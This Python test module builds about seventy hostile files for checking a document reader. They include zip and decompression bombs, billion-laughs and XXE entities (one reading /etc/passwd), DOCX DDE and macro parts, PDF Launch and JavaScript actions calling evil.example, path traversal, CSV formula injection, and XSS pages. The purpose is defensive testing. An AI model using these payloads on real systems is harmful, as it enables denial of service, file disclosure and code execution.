"""Sixty files that mean no good, each made here, and what the editor is told of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

from negotiations.intake.reading import MOST_BYTES
from tests.intake.papers import (
    docx_of,
    packed,
    part_of,
    pdf,
    pdf_of,
    shown,
    stream,
    with_parts,
    zipped,
)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORDS = "East wants thirty days of water."
MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """A file: ``make`` takes an address that would tell if it were fetched.

    ``said`` is in what the editor is told; without it the file is read, and all that comes of it
    is a text with ``gives`` in it. ``seconds`` are those it has, if not as many as others.
    """

    name: str
    make: Callable[[str], bytes]
    said: str = ""
    gives: str = WORDS
    seconds: int = 0


# --- Word documents -------------------------------------------------------------------------


def _word(body: str, before: str = "") -> bytes:
    """A DOCX whose document is this XML."""
    document = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body>'
    return with_parts(docx_of("x"), {"word/document.xml": f"{document}</w:document>"})


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    """A DOCX that points to a target outside of itself."""
    package = docx_of(WORDS)
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = f'<Relationship Id="out" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    rels = part_of(package, "word/_rels/document.xml.rels")
    rels = rels.replace("</Relationships>", f"{link}</Relationships>")
    return with_parts(package, {"word/_rels/document.xml.rels": rels})


def _laughs(_url: str) -> bytes:
    entities = '<!ENTITY a0 "ha ha ha ha ha ha ha ha ha ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)
    )
    return _word(_p(f"&a10;{WORDS}"), f"<!DOCTYPE w:document [{entities}]>")


def _quadratic(_url: str) -> bytes:
    entity = f'<!DOCTYPE w:document [<!ENTITY a "{"ha" * 100_000}">]>'
    return _word(_p("&a;" * 10_000 + WORDS), entity)


def _external(target: str) -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY out SYSTEM "{target}">]>'
    return _word(_p(f"&out;{WORDS}"), doctype)


def _doctype(target: str) -> bytes:
    return _word(_p(WORDS), f'<!DOCTYPE w:document SYSTEM "{target}/x.dtd">')


def _macros(_url: str) -> bytes:
    return with_parts(docx_of(WORDS), {"word/vbaProject.bin": b"Sub AutoOpen()"})


def _macro_document(_url: str) -> bytes:
    package = docx_of(WORDS)
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = part_of(package, "[Content_Types].xml").replace(kind, macro)
    return with_parts(package, {"[Content_Types].xml": types, "word/vbaProject.bin": b"Sub"})


def _field(_url: str) -> bytes:
    code = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    return _word(code + _p(WORDS))


def _bomb(_url: str) -> bytes:
    return with_parts(docx_of(WORDS), {"word/media/image1.png": b"\0" * (160 * MEGABYTE)})


def _spread_bomb(_url: str) -> bytes:
    parts: dict[str, bytes | str] = {f"word/media/{n}.bin": b"\0" * MEGABYTE for n in range(160)}
    return with_parts(docx_of(WORDS), parts)


def _text_bomb(_url: str) -> bytes:
    return _word(_p("water " * (20 * MEGABYTE)))


def _element_bomb(_url: str) -> bytes:
    return _word(_p("x") * 3_000_000)


def _many_parts(_url: str) -> bytes:
    return with_parts(docx_of(WORDS), {f"word/media/{n}": b"" for n in range(6_000)})


def _lying(size: int) -> Callable[[str], bytes]:
    """A DOCX whose directory says that the document unpacks to so many bytes."""

    def make(_url: str) -> bytes:
        data = bytearray(_word(_p("water " * 2_000_000)))
        at = data.rfind(b"PK\x01\x02")
        while at >= 0:
            length = struct.unpack_from("<H", data, at + 28)[0]
            if data[at + 46 : at + 46 + length] == b"word/document.xml":
                struct.pack_into("<I", data, at + 24, size)
            at = data.rfind(b"PK\x01\x02", 0, at)
        return bytes(data)

    return make


def _nested(_url: str) -> bytes:
    inner = zipped({"bomb": b"\0" * (50 * MEGABYTE)})
    for level in range(5):
        inner = zipped({f"{level}-{n}.zip": inner for n in range(4)})
    return with_parts(docx_of(WORDS), {"word/embeddings/inner.zip": inner})


def _nested_archive(_url: str) -> bytes:
    inner = zipped({"bomb": b"\0" * (50 * MEGABYTE)})
    return zipped({f"{n}.zip": inner for n in range(50)})


def _doubled(_url: str) -> bytes:
    """Two parts of one name: which is meant?"""
    made = io.BytesIO(docx_of(WORDS))
    with zipfile.ZipFile(made, "a") as package, _silently():
        package.writestr("word/document.xml", f'<w:document xmlns:w="{W}"/>')
    return made.getvalue()


def _silently():
    import warnings

    return warnings.catch_warnings(action="ignore")


def _climbing(_url: str) -> bytes:
    return with_parts(docx_of(WORDS), {"../../../../tmp/parley-was-here": b"x"})


def _deep_word(_url: str) -> bytes:
    return _word("<w:sdt>" * 100_000 + _p(WORDS) + "</w:sdt>" * 100_000)


def _without_document(_url: str) -> bytes:
    return with_parts(docx_of("x"), {}, without=["[Content_Types].xml"])


def _locked_word(_url: str) -> bytes:
    data = bytearray(docx_of(WORDS))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


# --- PDFs -----------------------------------------------------------------------------------


def _flate_bomb(_url: str) -> bytes:
    zeros = zlib.compress(b" " * (120 * MEGABYTE), 9)
    return _pdf_with(stream(zeros, b"/Filter /FlateDecode"))


def _double_bomb(_url: str) -> bytes:
    twice = zlib.compress(zlib.compress(b" " * (120 * MEGABYTE), 9), 9)
    return _pdf_with(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def _run_bomb(_url: str) -> bytes:
    runs = b"\x81 " * (8 * MEGABYTE)
    return _pdf_with(stream(runs, b"/Filter [/RunLengthDecode /RunLengthDecode]"))


def _object_bomb(_url: str) -> bytes:
    """An object stream that says it holds a hundred million objects, and unpacks to much."""
    inside = b"1 0 " * (20 * MEGABYTE)
    bomb = packed(inside, b"/Type /ObjStm /N 100000000 /First 100")
    return _pdf_with(stream(shown([WORDS])), bomb)


def _pdf_with(contents: bytes, *more: bytes, page: bytes = b"", catalogue: bytes = b"") -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F 5 0 R >> >> %s >>" % page,
        contents,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *more,
    )


def _script(_url: str) -> bytes:
    act = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"
    return _pdf_with(stream(shown([WORDS])), catalogue=act)


def _launch(_url: str) -> bytes:
    act = b"/OpenAction << /S /Launch /F (/bin/sh) /P (-c touch /tmp/parley-was-here) >>"
    return _pdf_with(stream(shown([WORDS])), catalogue=act)


def _remote(url: str) -> bytes:
    link = b"<< /FS /URL /F (%s/x.pdf) >>" % url.encode()
    page = b"/AA << /O << /S /URI /URI (%s) >> >>" % url.encode()
    contents = stream(shown([WORDS]))
    catalogue = b"/OpenAction << /S /GoToR /F 6 0 R /D [0 /Fit] >>"
    return _pdf_with(contents, link, page=page, catalogue=catalogue)


def _remote_contents(url: str) -> bytes:
    away = b"<< /Length 0 /F << /FS /URL /F (%s/contents) >> >>\nstream\n\nendstream" % url.encode()
    return _pdf_with(away)


def _attachment(_url: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of([WORDS]))))
    writer.add_attachment("run-me.exe", b"MZ" + b"\0" * 1000)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def _page_tree(_url: str) -> bytes:
    """A tree that says it has a thousand million pages, and leads back to itself."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000000 >>",
    )


def _deep_tree(_url: str) -> bytes:
    levels = 20_000
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1)
        for n in range(2, levels)
    ]
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, b"<< /Type /Page >>")


def _many_pages(_url: str) -> bytes:
    return pdf_of(*[[WORDS]] * 3_000)


def _deep_arrays(_url: str) -> bytes:
    return _pdf_with(stream(shown([WORDS])), catalogue=b"/X " + b"[" * 100_000 + b"]" * 100_000)


def _form_loop(_url: str) -> bytes:
    """A form that draws itself."""
    loop = stream(
        b"/L Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /L 6 0 R >> >>"
    )
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] /Contents 4 0 R"
        b" /Resources << /XObject << /L 6 0 R >> >> >>",
        stream(b"/L Do"),
        b"<< >>",
        loop,
    )


def _prev_loop(_url: str) -> bytes:
    """A table of objects that says that the one before it is itself."""
    whole = pdf_of([WORDS])
    at = whole.rfind(b"xref\n0", 0, whole.rfind(b"startxref"))
    return whole.replace(b"/Info 4 0 R", b"/Prev %d /Info 4 0 R" % at)


def _endless(_url: str) -> bytes:
    """Operators without end: it takes too long to read."""
    return _pdf_with(packed(b"BT /F 1 Tf (a) Tj ET 1 0 0 1 0 0 cm q Q " * 1_800_000))


# --- pages ----------------------------------------------------------------------------------


def _page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head>{head}</head><body>{body}</body></html>".encode()


def _fetching(url: str) -> bytes:
    parts = [
        f'<img src="{url}/i.png"><script src="{url}/s.js"></script>',
        f'<link rel="stylesheet" href="{url}/c.css"><iframe src="{url}/f.html"></iframe>',
        f'<object data="{url}/o"></object><embed src="{url}/e"><video src="{url}/v"></video>',
    ]
    base = f'<base href="{url}/"><meta http-equiv="refresh" content="0; url={url}/refresh">'
    return _page(f"<p>{WORDS}</p>{''.join(parts)}", base)


def _svg(url: str) -> bytes:
    drawn = f'<svg onload="alert(1)"><image href="{url}/x"/><script>alert(1)</script></svg>'
    return _page(f"{drawn}<p>{WORDS}</p>")


def _xhtml(url: str) -> bytes:
    doctype = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY out SYSTEM "{url}/x">]>'
    return f"{doctype}<html><body><p>{WORDS}</p></body></html>".encode()


def _structured(_url: str) -> bytes:
    data = '{"@type":"Article","headline":' + "[" * 200_000 + "]" * 200_000 + "}"
    return _page(f"<p>{WORDS}</p>", f'<script type="application/ld+json">{data}</script>')


def _backtracking(_url: str) -> bytes:
    title = "a - " * 100_000
    tag = "<meta charset" + " " * 100_000
    return _page(f"<p>{WORDS}</p>", f"<title>{title}</title>{tag}>")


# --- texts ----------------------------------------------------------------------------------


def _letters(_url: str) -> bytes:
    return "Схід".encode("cp1251") + b"\x98\x98" + WORDS.encode()


def _as(data: bytes) -> Callable[[str], bytes]:
    return lambda _url: data


def _html(body: str) -> Callable[[str], bytes]:
    return lambda _url: _page(body)


SPACES = Hostile("100 MB of spaces", _as(b" " * (100 * 1_000_000)), "larger than 20 MB")
HOSTILE = [
    Hostile("a DOCX with a part of 160 MB of zeros", _bomb, "unpacks to more than"),
    Hostile("a DOCX with 160 parts of 1 MB of zeros", _spread_bomb, "unpacks to more than"),
    Hostile("a DOCX with 120 MB of words", _text_bomb, "memory"),
    Hostile("a DOCX with three million paragraphs", _element_bomb, "memory"),
    Hostile("a DOCX with 6,000 parts", _many_parts, "unpacks to more than"),
    Hostile("a DOCX that says it unpacks to 10 bytes", _lying(10), "broken"),
    Hostile("a DOCX that says it unpacks to 4 GB", _lying(0xFFFFFFF0), "unpacks to more than"),
    Hostile("a DOCX with zip files in zip files", _nested),
    Hostile("zip files in a zip file", _nested_archive, "a zip archive"),
    Hostile("a DOCX with two documents of one name", _doubled, "no text"),
    Hostile("a DOCX with a part that climbs out of it", _climbing),
    Hostile("a DOCX with macros", _macros),
    Hostile("a DOCM", _macro_document),
    Hostile("a DOCX that loads a template", lambda url: _related("attachedTemplate", f"{url}/t")),
    Hostile("a DOCX with a picture elsewhere", lambda url: _related("image", f"{url}/p.png")),
    Hostile("a DOCX with a frame elsewhere", lambda url: _related("frame", f"{url}/f.html")),
    Hostile("a DOCX with an object on a share", lambda _: _related("oleObject", "\\\\host\\x")),
    Hostile("a DOCX with a part that is not there", lambda _: _related("image", "no", "Internal"),
            "broken"),
    Hostile("a DOCX with an entity that is a file", lambda _: _external("file:///etc/passwd")),
    Hostile("a DOCX with an entity that is elsewhere", lambda url: _external(f"{url}/entity")),
    Hostile("a DOCX with a definition elsewhere", lambda url: _doctype(url)),
    Hostile("a DOCX with a billion laughs", _laughs, "memory"),
    Hostile("a DOCX with one entity named 10,000 times", _quadratic, "memory"),
    Hostile("a DOCX with a field that starts a program", _field),
    Hostile("a DOCX nested 100,000 deep", _deep_word, "too deeply"),
    Hostile("a DOCX without its table of contents", _without_document, "broken"),
    Hostile("a DOCX with a password on its parts", _locked_word, "password"),
    Hostile("a DOCX cut off in the middle", lambda _: docx_of(WORDS)[:8000], "broken"),
    Hostile("a PDF page that unpacks to 120 MB", _flate_bomb, "memory"),
    Hostile("a PDF page packed twice", _double_bomb, "memory"),
    Hostile("a PDF page of runs of runs", _run_bomb, "memory"),
    Hostile("a PDF with an object stream that is a bomb", _object_bomb),
    Hostile("a PDF with a script", _script),
    Hostile("a PDF that starts a program", _launch),
    Hostile("a PDF that leads elsewhere", _remote),
    Hostile("a PDF whose page is elsewhere", _remote_contents, "scan"),
    Hostile("a PDF with a program attached", _attachment),
    Hostile("a PDF whose pages lead to themselves", _page_tree, "broken"),
    Hostile("a PDF with pages 20,000 deep", _deep_tree, "memory"),
    Hostile("a PDF with 3,000 pages", _many_pages, "at most 2,000 are read"),
    Hostile("a PDF with arrays 100,000 deep", _deep_arrays, "broken"),
    Hostile("a PDF with a form that draws itself", _form_loop, "scan"),
    Hostile("a PDF whose table of objects is its own", _prev_loop),
    Hostile("a PDF of seventy million operators", _endless, "too long", seconds=2),
    Hostile("a PDF cut off in the middle", lambda _: pdf_of([WORDS] * 3)[:700], "broken"),
    Hostile("a PDF of nothing but its first line", _as(b"%PDF-1.7\n"), "broken"),
    Hostile("a PDF with zeros in it", lambda _: pdf_of([WORDS]).replace(b"stream", b"str\0am"),
            "scan"),
    Hostile("a page with a million nested divs", _html("<div>" * 1_000_000 + WORDS), "too deeply"),
    Hostile("a page with an attribute of 10 MB", _html(f'<p title="{"x" * 10_000_001}">{WORDS}'),
            "memory"),
    Hostile("a page with 100,000 attributes", _html(
        f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>{WORDS}</p>"), "too long", seconds=2),
    Hostile("a page with scripts", _html(f"<script>alert(1)</script><p onclick=alert(1)>{WORDS}")),
    Hostile("a page that fetches and leads elsewhere", _fetching),
    Hostile("a page with a drawing that runs", _svg),
    Hostile("a page with an entity elsewhere", _xhtml),
    Hostile("a page with data nested 200,000 deep", _structured),
    Hostile("a page that makes patterns go back and forth", _backtracking),
    Hostile("a text with a byte that no letter has", _letters, gives=WORDS),
    Hostile("UTF-16 without a mark", _as((WORDS * 3).encode("utf-16-be")), gives=WORDS),
    Hostile("UTF-8 with halves of characters", _as(WORDS.encode() + b"\xed\xa0\x80\xed\xbf\xbf")),
    Hostile("a text with NULs between the words", _as(WORDS.replace(" ", "\0 ").encode()),
            "bytes that are no text"),
    Hostile("a text that turns the direction", _as(f"\u202e{WORDS}\u2066".encode())),
    Hostile("a table whose cells are formulas", _as(f'=cmd|"/c calc"!A1,{WORDS}\n'.encode())),
    Hostile("an Excel workbook", lambda _: zipped(
        {"xl/workbook.xml": "<x/>", "xl/sheet1.xml": "<f>=1+1</f>"}), "an Excel workbook"),
    Hostile("a PDF that is a page as well", lambda _: pdf_of([WORDS]).replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>alert(1)</script>\n")),
    Hostile("a zip file that begins like a PDF", lambda _: b"%PDF-1.7\n" + zipped({"a": "b"}),
            "broken"),
    Hostile("a program", _as(b"\x7fELF\x02\x01\x01" + b"\0" * 100), "a program"),
    Hostile("an empty file", _as(b""), "no text"),
    Hostile("20 MB and a byte", _as(b"a" * (MOST_BYTES + 1)), "larger than 20 MB"),
    Hostile("20 MB of spaces", _as(b" " * MOST_BYTES), "no text"),
    Hostile("20 MB of one word", _as(b"a" * MOST_BYTES), "longer than"),
    SPACES,
]  # fmt: skip
#: By the name, for those who look for one.
BY_NAME: Mapping[str, Hostile] = {hostile.name: hostile for hostile in HOSTILE}
